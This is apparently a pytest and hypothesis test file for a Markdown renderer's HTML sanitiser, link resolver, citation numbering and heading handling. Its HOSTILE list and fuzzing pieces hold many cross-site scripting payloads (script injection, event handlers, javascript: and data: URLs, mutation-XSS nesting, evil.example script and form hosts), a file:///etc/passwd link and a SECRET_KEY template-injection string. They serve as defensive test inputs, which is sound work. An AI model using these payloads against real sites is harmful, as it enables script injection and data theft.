"""Editors' Markdown becomes HTML that is safe whatever it holds, with notes, links and headings of ours."""

from __future__ import annotations

import re

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from apps.editions.markdown import Rendered, plain, render, render_inline
from tests.effort import ending

ALLOWED = {
    "a": {"href", "title", "rel", "aria-label"},
    "div": {"class", "role", "tabindex", "aria-label"},
    "h2": {"id"},
    "h3": {"id"},
    "h4": {"id"},
    "ol": {"start"},
    "span": {"lang"},
    "sup": {"class"},
    "th": {"scope"},
} | {
    key: set[str]()
    for key in [
        "blockquote",
        "br",
        "code",
        "em",
        "hr",
        "li",
        "p",
        "pre",
        "strong",
        "table",
        "tbody",
        "td",
        "thead",
        "tr",
        "ul",
    ]
}

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.gif">',
    "![pixel](https://evil.example/pixel.gif)",
    '![x](x "onerror=alert(1)")',
    "![x][1]\n\n[1]: https://evil.example/pixel.gif",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<style>body{display:none}</style>",
    '<p style="background:url(//evil.example)">x</p>',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<object data="x"></object><embed src="x">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<form action="https://evil.example"><input name=q><button>Go</button></form>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="javascript:alert(1)">x</a>',
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE x>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](//evil.example/)",
    "[x](/\\evil.example/)",
    "[x](\\\\evil.example)",
    "[x](https:evil.example)",
    "[x](https:///evil.example)",
    "[x](https://our.site@evil.example/)",
    "[x](http://evil.example/)",
    "[x](ftp://evil.example/)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](/en/erase/)",
    "[x](relative)",
    "[x](#anywhere)",
    "[x](?next=//evil.example)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x](https://a.example "title\\" onmouseover=\\"alert(1)")',
    '[x](https://a.example/" onmouseover="alert(1))',
    '[x](action:a1" onclick="alert(1))',
    "[x](action:../../evil)",
    "[x](action:a1?x=<script>)",
    "[^<script>alert(1)</script>]",
    '[^f1" onclick="alert(1)]',
    "[^f1-1]: <script>alert(1)</script>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    '| a |\n|:-:|\n| <td style="x" onclick="alert(1)"> |',
    "```<script>\n</code></pre><script>alert(1)</script>\n```",
    '``` " onclick="alert(1)\nx\n```',
    "`</code><script>alert(1)</script>`",
    '# <b onclick="alert(1)">x</b>\n\n## x {onclick=alert(1)}',
    "{{ settings.SECRET_KEY }} {% debug %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "a\u202egpj.exe\u2066b",
    "a\x00<script\x00>alert(1)</script>",
    "\ud800<script>alert(1)</script>",
    "<ScRiPt\n>alert(1)</sCrIpT\n>",
    "**<img src=x\nonerror=alert(1)>**",
    "<p/onclick=alert(1)>x",
    '<sup class="note"><a href="https://evil.example" aria-label="Note 1">1</a></sup>',
]


def address(kind: str, identity: str) -> str | None:
    """Know every item but those whose id begins with x."""
    return None if identity.startswith("x") else f"/en/{kind}s/{identity}/"


def elements(rendered: Rendered) -> list[tuple[str, dict[str, str]]]:
    """Return every element that a browser would make of it, with its attributes."""
    tree = html5lib.parseFragment(rendered.html, treebuilder="etree", namespaceHTMLElements=False)
    return [(found.tag, dict(found.attrib)) for found in tree.iter() if found.tag != "DOCUMENT_FRAGMENT"]


def assert_safe(rendered: Rendered) -> None:
    for element, attributes in elements(rendered):
        assert element in ALLOWED, element
        assert set(attributes) <= ALLOWED[element], (element, attributes)
        assert attributes.get("class") in {None, "note", "scroll"}
        target = attributes.get("href")
        if target is None:
            continue
        ours = re.fullmatch(r"/en/[a-z]+s/[a-z0-9-]+/", target)
        assert ours or re.match(r"(?i:https)://[^/@\\]+(/|$)|mailto:", target), target
        assert ours or attributes["rel"] == "noopener noreferrer"


@pytest.mark.parametrize("source", HOSTILE)
def test_a_hostile_text_becomes_harmless(source: str) -> None:
    for hidden in (source, f"- {source}", f"> {source}", f"[{source}](https://a.example)", f"a *b {source} c* d"):
        assert_safe(render(hidden, address))
        assert_safe(render_inline(hidden, address))
        assert isinstance(plain(hidden), str)


PIECES = [
    *("<", "script>", "</", "<img", "<svg>", "<!--", "-->", "style=", "src=x", "onclick=", "alert(1)", "{{", "}}"),
    *("![", "](", "[", ")", "[^", "]", "[^f1-1]", "[a]:", "`", "```", "-", "1.", ">", "#", "|", "|-", "---", "=", "*"),
    *("javascript:", "data:", "vbscript:", "//e.example", "https://a.example", "mailto:a@b.example", "action:a1"),
    *("claim:x1", '"', "'", "&#", "106;", "&lt;", "\\", "@", "?", "a", " ", "\n", "\n\n", "\t", "    "),
    *("\x00", "\u202e", "\ud800"),
]


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=30))
def test_pieces_of_attacks_in_any_order_are_harmless(pieces: list[str]) -> None:
    source = f"x{''.join(pieces)}"
    assert_safe(render(source, address))
    assert_safe(render_inline(source, address))
    assert isinstance(plain(source), str)


@pytest.mark.parametrize(
    "source", ["", " ", "\n\n", "\x00", "\u202e", "[a]: https://a.example", "[a]: javascript:alert(1)"]
)
def test_a_text_that_shows_nothing_becomes_nothing(source: str) -> None:
    assert render(source, address) == Rendered("", (), (), (), 0, 1, ())
    assert render_inline(" ", address).html.strip() == ""
    assert plain(source) == ""


def test_no_character_that_hides_or_reverses_reaches_the_page() -> None:
    assert render("a\u202eb\u2066c\x00d\ufeffe", address).html == "<p>abcde</p>\n"


def test_an_address_of_the_resolver_stays_on_the_site() -> None:
    for wrong in ("javascript:alert(1)", "//evil.example", "/\\evil.example", "https://evil.example", ""):
        rendered = render("[x](action:a1)[^f1-1]", lambda kind, identity, wrong=wrong: wrong)  # type: ignore[misc]
        assert rendered.html == "<p>x</p>\n"
        assert rendered.broken == (("action", "a1"), ("claim", "f1-1"))


@pytest.mark.parametrize(
    "source",
    [
        "[" * 20000,
        "![" * 10000,
        "[^" * 10000,
        "*a " * 6000,
        "> " * 10000,
        "`" * 20000,
        "[a](" * 5000,
        "|a" * 100 + "|\n" + "|-" * 100 + "|\n" + "|b\n" * 6000,
        "[^f1-1]" * 2800,
        "\\" * 20000,
        "&#" * 10000,
    ],
)
def test_a_long_hostile_text_takes_seconds_at_most(source: str) -> None:
    with ending():
        rendered = render(source, address)
    assert "<script" not in rendered.html


def test_citations_are_numbered_in_the_order_of_their_first_use() -> None:
    rendered = render("One[^f2-1] two[^f1-1] one again[^f2-1].", address)
    assert rendered.cited == ("f2-1", "f1-1")
    assert re.findall(r">(\d)</a>", rendered.html) == ["1", "2", "1"]
    assert '<sup class="note"><a href="/en/claims/f2-1/" aria-label="Note 1">1</a></sup> two' in rendered.html


def test_claims_cited_above_keep_their_numbers() -> None:
    rendered = render("New[^f3-1], old[^f1-1].", address, cited=["f1-1"])
    assert rendered.cited == ("f1-1", "f3-1")
    assert re.findall(r">(\d)</a>", rendered.html) == ["2", "1"]


def test_a_citation_in_a_link_stands_behind_it() -> None:
    html = render("[the words[^f1-1]](guide:t2)", address).html
    assert html.startswith('<p><a href="/en/guides/t2/">the words</a><sup class="note">')


@pytest.mark.parametrize("kind", ["action", "guide", "term", "claim", "question", "topic"])
def test_links_lead_to_items(kind: str) -> None:
    rendered = render(f"[words]({kind}:a-1) and [again]({kind}:a-1)", address)
    assert rendered.links == ((kind, "a-1"),)
    assert f'<a href="/en/{kind}s/a-1/">words</a>' in rendered.html
    assert rendered.broken == ()


def test_what_leads_nowhere_is_told_and_shown_as_words() -> None:
    rendered = render("[*a* step](action:x1), a fact[^x2], [old](leaflet:l1), [plain](//host/a)", address)
    assert rendered.html == "<p><em>a</em> step, a fact, old, plain</p>\n"
    assert rendered.broken == (("action", "x1"), ("claim", "x2"), ("leaflet", "l1"), ("address", "//host/a"))
    assert rendered.links == ()
    assert rendered.cited == ()


def test_links_to_other_sites_open_without_a_way_back() -> None:
    html = render("<https://a.example/x?y=1&z=2> [mail](mailto:a@b.example)", address).html
    assert html.count('rel="noopener noreferrer"') == 2
    assert 'href="https://a.example/x?y=1&amp;z=2"' in html


def test_headings_start_at_2_end_at_4_and_are_numbered() -> None:
    rendered = render("# A *b*[^f1-1]\n\n## C\n\nD\n=\n\n##### E", address)
    assert rendered.headings == (
        ("section-1", "A b"),
        ("section-2", "C"),
        ("section-3", "D"),
        ("section-4", "E"),
    )
    assert re.findall(r"<(h\d) id", rendered.html) == ["h2", "h2", "h2", "h4"]
    assert re.findall(r"</(h\d)>", rendered.html) == ["h2", "h2", "h2", "h4"]


def test_a_table_scrolls_by_itself_and_names_its_columns() -> None:
    html = render("| a | b |\n|:--|--:|\n| 1 | 2 |", address).html
    assert '<div class="scroll" role="region" tabindex="0" aria-label="Table 1"><table>' in html
    assert html.count('<th scope="col">') == 2
    assert "style" not in html


def test_pictures_become_their_words() -> None:
    assert render("See ![a *map*](https://a.example/map.png).", address).html == "<p>See a map.</p>\n"


def test_a_text_of_one_paragraph_has_no_paragraph_element() -> None:
    assert render_inline("a **b**\nc", address).html == "a <strong>b</strong>\nc"


def test_words_and_minutes_are_counted_without_marks() -> None:
    rendered = render("## One two\n\nthree [four five](action:a1)[^f1-1]\n\n- it's 30.5\n", address)
    assert (rendered.words, rendered.reading_minutes) == (7, 1)
    assert render("word " * 201, address).reading_minutes == 2
    assert render("", address) == Rendered("", (), (), (), 0, 1, ())


def test_plain_gives_the_words_only() -> None:
    source = "# One\n\n- *two* [three](action:a1)[^f1-1]\n- ![four](x)\n\n`five`\nsix\n\n```\nseven\n```\n"
    assert plain(source) == "One\n\ntwo three\n\nfour\n\nfive six\n\nseven"
